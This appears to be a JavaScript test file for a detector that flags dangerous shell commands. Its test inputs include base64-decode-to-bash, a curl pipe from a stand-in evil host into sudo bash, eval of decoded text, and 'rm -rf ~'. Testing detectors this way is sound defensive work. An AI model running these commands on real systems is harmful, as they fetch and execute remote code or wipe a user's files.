const assert = require('node:assert')
const { check } = require('..')

assert.deepEqual(check("echo aGk= | base64 -d | bash"), ['decode-and-run'])
assert.deepEqual(check('curl -s https://evil.example.invalid/a.sh | sudo bash'), ['pipe-to-shell'])
assert.deepEqual(check("eval(atob('Y29uc29sZQ=='))"), ['eval-decoded'])
assert.deepEqual(check('rm -rf ~ '), ['wipe'])
assert.deepEqual(check('rm -rf ./build'), [])
